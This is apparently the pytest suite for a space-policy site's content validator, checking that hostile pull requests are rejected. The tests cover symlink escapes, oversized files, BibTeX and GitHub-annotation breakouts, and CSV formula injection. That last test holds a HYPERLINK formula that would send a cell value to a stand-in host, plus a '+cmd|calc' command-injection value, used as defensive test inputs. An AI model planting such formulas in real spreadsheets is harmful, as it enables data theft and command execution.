"""A careless or hostile pull request cannot damage the site or its data: each class of attack
gets a located message and exit 1, or output that a parser of its format reads back exactly."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import subprocess
import sys

import pytest

from spaceatlas.read.content_files import Project
from spaceatlas.site.plan import build_site

AGENCY = (
    "title: Test Agency\nkind: national-agency\ncountry: US\nsummary: A body used in tests.\n"
    "sources: [example-source]\n"
)
TREATY = """title: Test Treaty
kind: treaty
summary: A treaty used in tests.
sources: [example-source]
dates:
  adopted: 1970-01-01
  opened_for_signature: 1970-06-01
"""


def validate(run_cli, project):
    code, out, err = run_cli("--root", project, "validate")
    assert "Traceback" not in out + err
    return code, out, err


# 1, 2: addresses have one owner


def test_a_former_slug_cannot_replace_an_index_page(project, write, run_cli):
    path = project / "content/treaties/rescue-agreement.yaml"
    path.write_text(path.read_text() + "redirect_from: [index]\n")
    code, _, err = validate(run_cli, project)
    assert code == 1
    assert re.search(
        r"content/treaties/rescue-agreement\.yaml:\d+:\d+: redirect_from\[0\]: 'index' cannot "
        r"redirect: the address /treaties/ already belongs to the Treaties and instruments index page",
        err,
    )


def test_an_entry_cannot_take_the_slug_index(project, write, run_cli):
    write("content/treaties/index.yaml", TREATY)
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/treaties/index.yaml:1:1: (document): the address /treaties/ already belongs" in err
    code, _, err = run_cli("--root", project, "new", "treaty", "index")
    assert code == 2 and "index page" in err


# 3: numbers beyond any sensible size


def test_an_integer_beyond_64_bits_is_a_located_error(project, write, run_cli):
    write(
        "content/treaties/big.yaml",
        TREATY + "parties:\n  as_of: 2020\n  source: example-source\n"
        "  stated_totals:\n    - as_of: 2020\n      source: example-source\n      parties: 100000000000000000000000\n",
    )
    code, _, err = validate(run_cli, project)
    assert (
        code == 1 and "content/treaties/big.yaml:14:16: parties.stated_totals[0].parties: must be at most 1,000" in err
    )


# 4: control characters, typed or escaped


@pytest.mark.parametrize("escape, code_point", [(r"\x01", "0001"), (r"\0", "0000"), (r"\e", "001B"), (r"\x7f", "007F")])
def test_control_characters_written_as_escapes_are_refused(project, write, run_cli, escape, code_point):
    write(
        "content/agencies/bad.yaml", AGENCY.replace("summary: A body used in tests.", f'summary: "Bad {escape} char"')
    )
    code, _, err = validate(run_cli, project)
    assert code == 1
    assert f"content/agencies/bad.yaml:4:10: summary: control character U+{code_point} in text" in err


# 5: CSV formula injection


def test_csv_cells_that_look_like_formulas_are_inert(project, write):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    write("content/agencies/formula.yaml", AGENCY.replace("title: Test Agency", f"title: '{formula}'"))
    write("seeds/formula-source.yaml", "title: '+cmd|calc'\npublisher: '@SUM(1+1)'\nsummary: '-2+3'\n")
    files = build_site(Project(project)).files
    for name in ("api/v1/agencies.csv", "api/v1/sources.csv"):
        rows = list(csv.reader(io.StringIO(files[name], newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    agencies = list(csv.DictReader(io.StringIO(files["api/v1/agencies.csv"], newline="")))
    assert "'" + formula in [row["title"] for row in agencies]


# 6, 9: files are read only as regular files inside the repository


def test_a_symlink_out_of_the_repository_is_refused_without_reading_it(project, run_cli, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("title: TOP SECRET\n")
    (project / "seeds/leak.yaml").symlink_to(secret)
    (project / "content/agencies/notes.yaml").symlink_to(tmp_path / "missing-target")
    code, out, err = validate(run_cli, project)
    assert code == 1
    assert "seeds/leak.yaml:1:1: (file): is a symbolic link; entry files must be regular files" in err
    assert "content/agencies/notes.yaml:1:1: (file): is a symbolic link" in err
    assert "TOP SECRET" not in out + err


def test_a_symlink_loop_in_content_is_a_message(project, run_cli):
    (project / "content/loop").symlink_to(project / "content/loop")
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/loop:1:1: (file): not an entry folder" in err


def test_non_utf8_bytes_in_the_address_record_are_a_message(project, run_cli):
    (project / "content/published-urls.txt").write_bytes(b"/agencies/nasa/\n/caf\xe9/\n")
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/published-urls.txt:2:1: (file): not UTF-8 text" in err


# 7: BibTeX


def test_a_title_cannot_break_out_of_its_bibtex_field(project, write):
    from pybtex.database import parse_string

    title = r"Evil \} , note = {x}} @misc{injected, title={pwned} } {"
    write("content/agencies/bibtex.yaml", AGENCY.replace("title: Test Agency", "title: " + json.dumps(title)))
    page = build_site(Project(project)).files["agencies/bibtex.md"]
    block = page[page.index("<code>") + len("<code>") : page.index("</code>")]
    source = html.unescape(re.sub(r"<[^>]+>", "", block))
    entries = parse_string(source, "bibtex").entries
    assert list(entries) == ["spaceatlas-agency-bibtex"]
    assert "injected" not in entries and "pwned" not in entries["spaceatlas-agency-bibtex"].fields.get("note", "")


# 8: GitHub workflow commands


def test_a_file_name_cannot_forge_an_annotation(project, run_cli):
    name = "x\n::warning file=README.md,line=1::forged\n.yaml"
    (project / "content/agencies" / name).write_text(AGENCY)
    code, out, _ = run_cli("--root", project, "validate", "--format", "github")
    assert code == 1
    commands = [line for line in out.splitlines() if line.startswith("::")]
    assert commands and all(line.startswith("::error file=") for line in commands)
    assert not [line for line in out.splitlines() if line.startswith("::warning")]


# 10: bounded work


def test_errors_are_capped_per_file_and_in_all_and_counted(project, write, run_cli):
    for number in range(12):  # 12 files of 50 wrong items each: 600 problems
        write(f"content/agencies/many{number}.yaml", AGENCY + "aliases: [" + ", ".join(["[1]"] * 50) + "]\n")
    code, _, err = validate(run_cli, project)
    assert code == 1
    located = [line for line in err.splitlines() if re.match(r"content/agencies/many\d+\.yaml:\d+:\d+: ", line)]
    assert len(located) == 200  # in all
    assert len([line for line in located if line.startswith("content/agencies/many0.yaml")]) == 20  # per file
    assert "content/agencies/many0.yaml: 30 more problems not shown" in err
    assert "content/agencies/many9.yaml: 50 more problems not shown" in err  # files in name order
    assert err.rstrip().endswith("600 problems found in content.")


def test_a_hostile_list_is_refused_while_it_is_read(project, write, run_cli):
    write("content/agencies/long.yaml", AGENCY + "aliases: [" + ", ".join(["x"] * 60_000) + "]\n")
    code, _, err = validate(run_cli, project)
    assert code == 1 and re.search(
        r"content/agencies/long\.yaml:6:\d+: aliases: more than 5,000 items in one list", err
    )


def test_a_huge_file_is_refused_before_it_is_read(project):
    path = project / "content/agencies/sparse.yaml"
    with open(path, "wb") as handle:
        handle.truncate(2 * 1024**3)  # 2 GB, sparse: nothing is written to disk
    script = (
        "import re, sys; from spaceatlas.tools.cli import main; code = main(['--root', sys.argv[1], 'validate']);"
        # VmHWM is this process's own peak (ru_maxrss can carry the parent's across fork and exec).
        "print(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1)); sys.exit(code)"
    )
    run = subprocess.run(
        [sys.executable, "-c", script, str(project)],
        capture_output=True,
        text=True,
        timeout=120,
        env=dict(os.environ, PYTHONPATH=str(project / "scripts")),
    )
    assert run.returncode == 1 and "sparse.yaml:1:1: (file): file is larger than 256 KiB" in run.stderr
    assert int(run.stdout.split()[-1]) < 200 * 1024  # KiB: nothing like the file was read


# 11: relations between fields

PARTIES = "parties:\n  as_of: 2020\n  source: example-source\n  actions:\n"


@pytest.mark.parametrize(
    "extra, message",
    [
        (
            PARTIES + "    - {party: US, action: signature, date: 1969-01-01}\n",
            "parties.actions[0].date: 1969-01-01 is before the instrument was opened or adopted",
        ),
        (
            "parties:\n  as_of: 1980\n  source: example-source\n"
            "  actions:\n    - {party: US, action: ratification, date: 1990-01-01}\n",
            "is after the list's as_of date (1980)",
        ),
        (
            "parties:\n  as_of: 2020\n  source: example-source\n  stated_totals:\n"
            "    - {as_of: 2020, source: example-source, parties: 0}\n"
            "  actions:\n    - {party: US, action: ratification, date: 1990-01-01}\n",
            "the source states 0, but the actions listed make 1 on 2020",
        ),
        (
            PARTIES + "    - {party: US, action: ratification, date: 1990-01-01}\n"
            "    - {party: US, action: ratification, date: 1990-01-01}\n",
            "the same action is listed twice",
        ),
        ("aliases: [TT, tt]\n", "'tt' is listed twice"),
        (
            PARTIES + "    - {party: US, action: ratification, date: 2999-01-01}\n",
            "2999-01-01 is in the future",
        ),
    ],
)
def test_fields_that_contradict_each_other_are_errors(project, write, run_cli, extra, message):
    write("content/treaties/contradiction.yaml", TREATY + extra)
    code, _, err = validate(run_cli, project)
    assert code == 1 and message in err, err


def test_a_completed_program_cannot_end_in_the_future(project, write, run_cli):
    write(
        "content/programs/future.yaml",
        "title: P\nstatus: completed\nstart: 2001\nend: 2999\ndomains: [science, science]\n"
        "summary: S.\nsources: [example-source, example-source]\n",
    )
    code, _, err = validate(run_cli, project)
    assert code == 1
    assert "end: 2999 is in the future" in err
    assert "domains[1]: 'science' is listed twice" in err and "sources[1]: 'example-source' is listed twice" in err


def test_a_circle_of_parents_is_reported_once(project, write, run_cli):
    write(
        "content/programs/alpha.yaml",
        "title: A\nstatus: active\npart_of: beta\ndomains: [science]\nsummary: S.\nsources: [example-source]\n",
    )
    write(
        "content/programs/beta.yaml",
        "title: B\nstatus: active\npart_of: alpha\ndomains: [science]\nsummary: S.\nsources: [example-source]\n",
    )
    code, _, err = validate(run_cli, project)
    assert code == 1 and err.count("goes round in a circle") == 1


# 12: what is and is not a content file


def test_a_file_in_a_sub_folder_is_reported(project, write, run_cli):
    write("content/treaties/drafts/new.yaml", TREATY)
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/treaties/drafts:1:1: (file): sub-folders are not read" in err


def test_editor_backup_and_swap_files_are_ignored(project, write, run_cli):
    write("content/agencies/nasa.yaml~", "not: [valid")
    write("content/agencies/.nasa.yaml.swp", "\x00\x01binary")
    write("content/agencies/#nasa.yaml#", "junk")
    code, out, err = validate(run_cli, project)
    assert code == 0, err and "content is valid" in out
